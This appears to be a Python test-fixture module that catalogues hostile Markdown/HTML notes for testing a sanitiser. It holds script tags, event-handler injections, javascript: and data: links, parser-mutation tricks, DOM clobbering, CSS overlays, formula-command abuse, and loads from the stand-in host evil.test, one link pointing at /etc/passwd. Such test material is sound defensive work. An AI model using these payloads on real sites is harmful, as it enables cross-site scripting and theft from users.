"""Notes that want to harm the reader, by what they try; each is read as Markdown and as HTML.

A payload calls `pwned()` if it runs, and asks `evil.test` if it loads something.
"""

RUN = "pwned()"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f"<img src=x onerror={RUN}>"
FOREIGN = "http://evil.test"

SCRIPTS = {
    "script": SCRIPT,
    "script in odd letters": f"<ScRiPt>{RUN}</sCrIpT\t\n>",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script in a script": f"<scr<script></script>ipt>{RUN}</script>",
    "foreign script": f"<script src={FOREIGN}/x.js></script>",
    "module": f'<script type="module" src="{FOREIGN}/x.js"></script>',
    "script that is never closed": f"<script>{RUN}",
    "script behind a NUL": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "script in an SVG": f"<svg><script>{RUN}</script></svg>",
    "script by entities": "&lt;script&gt;pwned()&lt;/script&gt;",
    "script by entities twice": "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
    "less-than that folds": f"＜script＞{RUN}＜/script＞ ﹤img src=x onerror={RUN}﹥",
    "conditional comment": f"<!--[if gte IE 4]>{SCRIPT}<![endif]-->",
    "template with a shadow root": f"<div><template shadowrootmode=open>{SCRIPT}{IMAGE}</template></div>",
}

HANDLERS = {
    "image that fails": IMAGE,
    "image without an end": f"<img src=x onerror={RUN}//",
    "image with slashes": f"<img/src=x/onerror={RUN}>",
    "image with a form feed": f"<img\fsrc=x\fonerror={RUN}>",
    "image with graves": f"<img src=`x` onerror=`{RUN}`>",
    "odd letters": f"<IMG SRC=x ONERROR={RUN}>",
    "handler by entities": "<img src=x onerror=&#112;wned&lpar;&rpar;>",
    "quote that closes the alt": f'<img alt="" onerror={RUN} x="" src=x>',
    "quote by an entity": f'<img alt="&quot; onerror={RUN} x=&quot;" src=x>',
    "svg that loads": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s /></svg>",
    "details that open": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "focus by itself": f"<input autofocus onfocus={RUN}><p tabindex=0 autofocus onfocus={RUN}>x</p>",
    "content that shows": f"<p oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>x</p>",
    "animation": f"<p style='animation:x 1s' onanimationstart={RUN}>x</p>",
    "body": f"<body onload={RUN} onpageshow={RUN} onresize={RUN} class=x>",
    "video that fails": f"<video><source onerror={RUN} src=x></video><audio src=x onerror={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "popover": f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>x</div>",
    "tag in a tag": f"<p <img src=x onerror={RUN}>>",
    "attribute without a blank": f'<img src="x"onerror="{RUN}">',
}

ADDRESSES = {
    "javascript": f'<a href="javascript:{RUN}">x</a> [y](javascript:{RUN})',
    "javascript in odd letters": f'<a href="JaVaScRiPt:{RUN}">x</a> [y](JaVaScRiPt:{RUN})',
    "javascript by entities": "<a href='&#106;&#x61vascript:pwned()'>x</a> [y](&#106;avascript:pwned())",
    "javascript with a tab": "<a href='java&Tab;script:pwned()'>x</a> [y](java&Tab;script&colon;pwned())",
    "javascript with a line feed": "<a href='java\nscript:pwned()'>x</a> [y](<java\nscript:pwned()>)",
    "javascript behind blanks": "<a href=' \n&#1;&#x20; javascript:pwned()'>x</a> [y](<  javascript:pwned()>)",
    "javascript behind an invisible": "<a href='\u200bjavascript:pwned()'>x</a> [y](\u00adjavascript:pwned())",
    "javascript around a formula": "[x](java$$script:pwned()) [y](javascript`:`pwned()) [z](<!-- -->javascript:pwned())",
    "javascript by escapes": r"[x](java\script\:pwned()) [y](javascript\:pwned())",
    "javascript in an autolink": "<javascript:pwned()> <javascript://%0apwned()>",
    "javascript in a reference": '[x]: javascript:pwned() "t"\n[y]: <java\tscript:pwned()>\n\n[x] [y] ![x]',
    "javascript as a picture": "![x](javascript:pwned()) <img src='javascript:pwned()'>",
    "javascript in an SVG": "<svg><a xlink:href='javascript:pwned()' href='javascript:pwned()'><text>x</text></a></svg>",
    "javascript in MathML": "<math href='javascript:pwned()'><mi xlink:href='javascript:pwned()'>x</mi></math>",
    "vbscript": "<a href='vbscript:pwned()'>x</a> [y](vbscript:pwned())",
    "data": "<a href='data:text/html,<script>pwned()</script>'>x</a> [y](data:text/html,pwned)",
    "data as a picture": "![x](data:image/svg+xml,%3Csvg%20onload=pwned()%3E) <img src=data:image/png;base64,AA>",
    "blob and file": "[x](blob:http://evil.test/x) [y](file:///etc/passwd) <a href='view-source:x'>z</a>",
    "title that closes": f"[x](/y '\" onmouseover=\"{RUN}') [z](/y \"' onmouseover='{RUN}\")",
    "address that closes": f'[x](/y"onmouseover="{RUN}) <http://a.b/"onmouseover="{RUN}>',
    "bare address that closes": f"http://a.b/\"onmouseover='{RUN} http://a.b/'onmouseover={RUN}",
}

FOREIGN_HOSTS = {
    "picture": f"<img src={FOREIGN}/x.png> ![x]({FOREIGN}/x.png)",
    "picture without a scheme": "<img src=//evil.test/x> ![x](//evil.test/x) <img src='/\\evil.test/x'>",
    "picture behind blanks": f"<img src=' //evil.test/x'> ![x]( {FOREIGN}/x.png) ![x](\n{FOREIGN}/x.png)",
    "picture with a tab": "<img src='/\t/evil.test/x'> <img src='ht&#10;tp://evil.test/x'> <img src='/&#9;/evil.test'>",
    "picture with a strange scheme": "<img src='http:/\\evil.test/x'> <img src='https:evil.test'> ![x](HTTP:evil.test)",
    "picture by a reference": f"![x][y]\n\n[y]: {FOREIGN}/x.png",
    "picture in a link": f"[![x]({FOREIGN}/x.png)](/y) <a href=/y><img src={FOREIGN}/x></a>",
    "picture in angle brackets": f"![x](<{FOREIGN}/x.png>) ![x](< {FOREIGN}/x.png>)",
    "set of pictures": f"<img srcset='{FOREIGN}/x 1x' src=x><picture><source srcset={FOREIGN}/x></picture>",
    "lazy picture": f"<img loading=lazy src={FOREIGN}/x lowsrc={FOREIGN}/x dynsrc={FOREIGN}/x>",
    "image tag": f"<image src={FOREIGN}/x><svg><image href={FOREIGN}/x xlink:href={FOREIGN}/x /></svg>",
    "svg use": f"<svg><use href='{FOREIGN}/x#a'/><filter><feImage href='{FOREIGN}/x'/></filter></svg>",
    "video and audio": f"<video src={FOREIGN}/v poster={FOREIGN}/p><audio src={FOREIGN}/a><track src={FOREIGN}/t>",
    "frames": f"<iframe src={FOREIGN}></iframe><iframe srcdoc='{SCRIPT}'></iframe><frameset><frame src={FOREIGN}>",
    "objects": f"<object data={FOREIGN}/x><param name=movie value={FOREIGN}/x></object><embed src={FOREIGN}/x>",
    "links": f"<link rel=stylesheet href={FOREIGN}/x><link rel=preload as=image href={FOREIGN}/x><link rel=icon href=//evil.test>",
    "style": f"<style>@import '{FOREIGN}/x';body{{background:url({FOREIGN}/x)}}</style>",
    "style attribute": f"<p style='background:url({FOREIGN}/x);list-style:url({FOREIGN}/x)'>x</p>",
    "background": f"<table background={FOREIGN}/x><tr background={FOREIGN}/x><td background={FOREIGN}/x>x</table>",
    "ping": f"<a href=/x ping={FOREIGN}/x attributionsrc={FOREIGN}/x>x</a>",
    "refresh": f"<meta http-equiv=refresh content='0;url={FOREIGN}'>",
    "base": f"<base href={FOREIGN}/ target=x><img src=x>",
    "quotation": f"<q cite={FOREIGN}>x</q><blockquote cite={FOREIGN}>y</blockquote><del cite={FOREIGN}>z</del>",
    "manifest": f"<html manifest={FOREIGN}/x><head profile={FOREIGN}/x>",
    "image input": f"<form action={FOREIGN}><input type=image src={FOREIGN}/x formaction={FOREIGN}></form>",
}

MUTATIONS = {
    "mglyph": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "forms in math": f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
    "annotation": f"<math><annotation-xml encoding='text/html'><style>{IMAGE}</style></annotation-xml></math>",
    "style in an SVG": f"<svg><style><a title='</style>{IMAGE}'>",
    "desc in an SVG": f"<svg></p><style><a id='</style>{IMAGE}'></svg><svg><desc><td>{SCRIPT}</desc></svg>",
    "foreign object": f"<svg><foreignObject><p>{IMAGE}</foreignObject><title>{IMAGE}</title></svg>",
    "CDATA in math": f"<math><![CDATA[</math>{IMAGE}]]></math><svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "CDATA": f"<![CDATA[<x]]>{SCRIPT}]]> <?php {SCRIPT} ?> <!ENTITY x '{SCRIPT}'>",
    "noscript": f"<noscript><p title='</noscript>{IMAGE}'></noscript>",
    "template": f"<template><p title='</template>{IMAGE}'></template>",
    "textarea": f"<textarea><p title='</textarea>{IMAGE}'></textarea>",
    "title": f"<title><p title='</title>{IMAGE}'></title>",
    "other raw text": f"<xmp><p title='</xmp>{IMAGE}'></xmp><noembed><p title='</noembed>{IMAGE}'></noembed>",
    "iframe as text": f"<iframe><p title='</iframe>{IMAGE}'></iframe><noframes></noframes>{IMAGE}",
    "select": f"<select><template><style><!--</style><a rel='--></select>{IMAGE}'></template></select>",
    "plaintext": f"a<plaintext>b{IMAGE}</plaintext>",
    "comment that ends early": f"<!--><p title='-->{IMAGE}'><!--->{IMAGE}--><!-- --!>{IMAGE}",
    "comment that never ends": f"a <!-- b {IMAGE}",
    "quote that never ends": f'a <p title="b {IMAGE}',
    "links in links": "<a href=/x>a<object><a href=/y>b</a></object>c</a><a href=/z><svg><a href=/q>d</a></svg>",
    "paragraphs in paragraphs": "<p>a<object><p>b<marquee><p>c</p></marquee></p></object>d</p><button><p>e<button>",
    "items in items": "<ul><li>a<object><li>b</li></object></li></ul><template><tr><td>c</td></tr></template>",
    "content of a table": f"<table><tr><p>a<td>{IMAGE}</table><table><a href=/x><tr><td><a href=/y>b</table>",
    "formatting that overlaps": "<b><i>a</b>b</i><b><p>c</b>d</p><u><table><td></u>e</table>"
    + "<b>" * 40
    + "f",
}

BREAKING_OUT = {
    "all that is open": "</p></div></div></article></main></body></html><h1>x</h1>",
    "many closing tags": "</div>" * 50 + "<footer class=site-footer>x</footer></section>" * 5,
    "opening that stays open": "<div><section><blockquote><table><tr><td><details>" * 3 + "x",
    "body and html": "<html lang=xx dir=rtl class=x><head><title>x</title></head><body dir=rtl class=x>y</body>",
    "table rows alone": "<tr><td>x</td></tr><tbody><caption>y</caption><col><td>z",
    "very deep": "<div>" * 600 + "x" + "</div>" * 600 + "</div></div>",
    "deep inline": "<i><span>" * 600 + "x",
    "whole page": "<!doctype html><html><head></head><body><main id=page-main>x</main></body></html>",
    "frameset": "<frameset><frame></frameset>",
    "open list": "<ul><li><ul><li>x\n\n> - <div>\n\n<p align=center>",
    "item outside": "<li>x</li><dd>y</dd><option>z</option></ul></ol></li>",
}

LOOKS = {
    "over the page": "<div style='position:fixed;inset:0;z-index:9999;background:red'>x</div>",
    "sticky": "<p style='position:sticky;top:0'>x</p><p style='position:absolute;top:0;left:0'>y</p>",
    "pulled up": "<p style='margin-top:-500px;transform:translateY(-500px)'>x</p><img width=99999 height=99999 src=x>",
    "style of the page": "<style>*{display:none!important}body{background:red}.site-header{color:red}</style>",
    "classes of the page": "<div class='site-header skip-link visually-hidden formula-notice'>x</div><p class=draft-banner>y</p>",
    "top layer": "<dialog open style='inset:0'>x</dialog><div popover=manual>y</div>",
    "font and centre": "<center><font size=99 color=red face=x>x</font></center><big>y</big><blink>z</blink>",
    "direction": "<bdo dir=rtl>abc</bdo><p dir=rtl>def</p>",
    "right to left": "\u202eabc\u202d \u2067def # \u202eghi\n\n## \u202e题\n\n`\u202ecode`\n\n| \u202ea | \u2066b |\n|-|-|\n| c | d |",
    "piled up": "Z" + "\u0300\u0301\u0334" * 60 + " ﷽﷽﷽ " + "\u115f\u3164" * 20,
    "invisible": "a\u200b\u200c\u200d\u2060\ufeffb\u00ad\u180e\U000e0041\U000e007f # \u200b",
    "huge words": "W" * 5000 + " " + "中" * 5000,
    "formula that climbs": r"$\raisebox{300em}{a}\raise 300em{b}\hspace{-300em}c\kern-300em d\mspace{-9999mu}$",
    "formula that lies over": r"$$\rlap{aaaaaaaa}\llap{bbbbbbbb}\smash{\rule{300em}{300em}}\rule[300em]{99em}{99em}$$",
    "formula that is large": r"$\Huge\Huge x^{x}\left(\rule{0pt}{3000em}\right)\vphantom{\rule{1em}{999em}}$",
}

CLOBBERING = {
    "ids": "".join(
        f"<p id={id}>x</p><a name={id}>y</a>"
        for id in ("body", "cookie", "page-main", "page-search", "location")
    ),
    "names": "<img name=getElementById src=x><form name=body><input name=firstChild></form><iframe name=top></iframe>",
    "functions": "<a id=alert name=fetch></a><img id=querySelector name=querySelector src=x><embed name=forms>",
    "prototype": "<p id=__proto__>a</p><p id=constructor>b</p>\n\n# __proto__\n\n# constructor\n\n[^__proto__]: x",
    "forged ids": "<p id=s-1>a</p><p id=eq-1>b</p><p id=code-1-1>c</p><p id=cite-1>d</p><p id=fn-1>e</p><p id=fnref-1>f</p>\n\ng[^1]\n\n[^1]: h",
    "the same ids": "<p id=x>a</p><p id=x>b</p><h2 id=x>c</h2><a name=x>d</a>\n\n## x\n\n## x",
    "huge ids": f"<p id={'i' * 9000} class={'c' * 9000}>x</p>\n\n# {'题' * 9000}\n\n[^{'f' * 9000}]: x\n\n[^{'f' * 9000}]",
    "labels by map": "<map name=x><area href=javascript:pwned()></map><img usemap=#x src=x ismap><label for=page-search>y</label>",
    "form of the page": "<input form=x><button form=page-search formaction=http://evil.test>y</button><output for=x>",
}

FORMULAS = {
    "text that closes": f"$\\text{{</math>{IMAGE}}}$ $\\mathrm{{</mi></math>{SCRIPT}}}$",
    "annotation that closes": f"$x</annotation></semantics></math>{IMAGE}$ $$]]>--></annotation>{SCRIPT}$$",
    "href": r"$\href{javascript:pwned()}{x}$ $\url{javascript:pwned()}$ $\href{http://evil.test}{y}$",
    "html extensions": r"$\class{site-header}{x}\cssId{page-main}{y}\style{position:fixed}{z}\htmlData{a=b}{c}$",
    "html classes": r"$\htmlClass{skip-link}{x}$ $\htmlStyle{position:fixed}{y}$ $\htmlId{page-main}{z}$",
    "pictures in formulas": r"$\includegraphics{http://evil.test/x.png}$ $\require{x}\unicode{x}\char60 script$",
    "colours": r'$\color{red;" onclick="pwned()}x$ $\textcolor{url(http://evil.test)}{y}$ $\colorbox{"><img src=x onerror=pwned()>}{z}$',
    "labels": '$$\\begin{align}x\\label{a" onclick="pwned()}\\tag{"><script>pwned()</script>}\\end{align}$$ $\\eqref{"><img src=x onerror=pwned()>}$',
    "same labels": "$$x\\label{a}\\tag{1}$$\n\n$$y\\label{a}\\tag{2}$$\n\n$\\eqref{a}$ [see $\\eqref{a}$](/x)",
    "unknown command": f'$\\foo"{IMAGE}$ $\\begin{{"{IMAGE}}}$ $\\operatorname{{{IMAGE}}}$',
    "entities in formulas": "$\\text{&lt;img src=x onerror=pwned()&gt;}$ $&#60;script&#62;pwned()&#60;/script&#62;$",
    "definitions": r"$\def\x{\x\x}\x$ $\newcommand{\y}{<script>}\y$ $\let\text\href$ $\catcode`\<=1$",
    "formula in an address": '<a title="$x$ onclick=pwned()" href="/x">x</a> ![$" onerror="pwned()$](x) [y](/a "$\\"><script>$")',
    "verbatim": f"$\\verb|{IMAGE}|$ $\\texttt{{{SCRIPT}}}$ $`{IMAGE}`$ \\({SCRIPT}\\) \\[{IMAGE}\\]",
    "lengths": r'$\rule{1em" onclick="pwned()}{1em}$ $\hspace{1em;position:fixed}$ $\\[1em" x="]$',
}

OWN_MARKS = {
    "marks": "\ufdd00\ufdd1 \ufdd3topics\ufdd4 \ufdd5x \ufdd6a\ufddbb\ufdd7<img src=x onerror=pwned()>\ufdd8 \ufddc0\ufddd \ufdd2img",
    "marks by entities": "&#xfdd0;0&#xfdd1; &#xfdd6;a&#xfddb;b&#xfdd7;&lt;img src=x onerror=pwned()&gt;&#xfdd8; &#64978;script",
    "marks by entities in code": '<pre>&#xfdd6;a&#xfddb;"onclick=pwned()&#xfdd7;b&#xfdd8;</pre> $&#xfdd0;0&#xfdd1;$ `&#xfdd0;0&#xfdd1;`',
    "marks in attributes": "<a title='\ufdd00\ufdd1' href='\ufdd5//evil.test'>x</a> <img alt='&#xfdd9;x' src='&#xfdd9;00112233445566778899aabbccddeeff.png&#xfdda;'>",
    "stash": "<div>a</div>\n\n\x02wxzhxdk:0\x03 \x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \x02amp\x03 \x0260\x03 &#2;wzxhzdk:0&#3;",
    "stash in an address": "[x](\x02wzxhzdk:0\x03) **a** `b` [y](&#2;klzzwxh:0001&#3;) <p title='\x02klzzwxh:0000\x03'>",
    "picture of ours": '![x" onload="pwned()](/-/figures/00112233445566778899aabbccddeeff.png \'" onerror="pwned()\')',
}

SIGNS = {
    "fence": f'```"><script>pwned()</script>\nx\n```\n\n~~~ html onclick="{RUN}"\n</code></pre>{SCRIPT}\n~~~',
    "fence with braces": f'``` {{.python #page-main onclick="{RUN}" style="position:fixed"}}\n{IMAGE}\n```',
    "code": f"`</code>{IMAGE}` ``{SCRIPT}`` <code>{IMAGE}</code> <pre>{IMAGE}</pre><pre><code class='x\" {RUN}'>",
    "footnote label": f"[^\"><img src=x onerror={RUN}>]\n\n[^\"><img src=x onerror={RUN}>]: {IMAGE}\n\n[^' onclick={RUN} ']: y",
    "heading": f"# {IMAGE} \"'> {SCRIPT}\n\n## x {{#page-main onclick={RUN}}}\n\n<h2 id='\"><img src=x>'>y</h2>\n\n# \"><svg onload={RUN}>",
    "wikilink": f'[[{IMAGE}]] [[a|{IMAGE}]] [[Attention#{SCRIPT}|"><b>]] [[" onclick="{RUN}]]',
    "citation": f'【索引1，{IMAGE}，2023】【1】 【2，" onclick="{RUN}】【引用3，</span></div>{SCRIPT}，2020，X】',
    "citation in a link": "[a 【1】 [[Attention]] http://a.b](/x) 【索引1，<a href=javascript:pwned()>t</a>，2023】",
    "table": f"| {IMAGE} | </td></table>{SCRIPT} |\n|:-:|-:|\n| `|{IMAGE}` | $|</math>{IMAGE}$ |",
    "alert": f'> [!NOTE] {IMAGE}\n> x\n\n> [!" onclick={RUN}] y\n\n> [!tip]- </summary></details>{SCRIPT}\n> z',
    "details": f"<details><summary>{IMAGE}</details></summary>{SCRIPT}",
    "alt": f'![" onerror="{RUN}](x) ![</figcaption>{IMAGE}](x)\n\n![{IMAGE}](x "{IMAGE}")\n\n<img alt=\'"{IMAGE}\' src=x>',
    "reference": f'[x]: /y "\\" onmouseover=\\"{RUN}"\n[{IMAGE}]: /z \'"{IMAGE}\'\n\n[x] [{IMAGE}]',
    "autolinks": f'<http://a.b/{IMAGE}> <a@b.c"onclick={RUN}> <http://a.b?"><script>{RUN}</script>> www.a.b"onclick={RUN}',
    "mail": '<mailto:a@b.c?body=%3Cscript%3E> [x](mailto:&#34;onclick=pwned()) <"onclick=pwned()"@b.c>',
    "emphasis": f"**<b onclick={RUN}>** *<img src=*x* onerror={RUN}>* ~~</del>{SCRIPT}~~ ==<mark onclick={RUN}>==",
    "task": f'- [x] {IMAGE}\n- [ ] <input type=checkbox onclick={RUN}>\n- ["onclick={RUN}] z',
    "definition": f"{IMAGE}\n: {SCRIPT}\n: </dd></dl></div>x",
    "escapes": rf"\<script>{RUN}\</script> \\<img src=x onerror={RUN}> &\#60;script> \&lt;b>",
    "attribute list": f'x {{: onclick="{RUN}" #page-main .site-header style="position:fixed"}}\n\n# y {{: #body}}',
    "blocks of the site": "[[topics]]\n\n[[papers]]\n\n<p>[[topics]]</p>\n\n`[[papers]]`",
}

HOSTILE = {
    f"{kind}: {name}": text
    for kind, notes in {
        "script": SCRIPTS,
        "handler": HANDLERS,
        "address": ADDRESSES,
        "foreign host": FOREIGN_HOSTS,
        "mutation": MUTATIONS,
        "breaking out": BREAKING_OUT,
        "looks": LOOKS,
        "clobbering": CLOBBERING,
        "formula": FORMULAS,
        "own marks": OWN_MARKS,
        "signs": SIGNS,
    }.items()
    for name, text in notes.items()
}
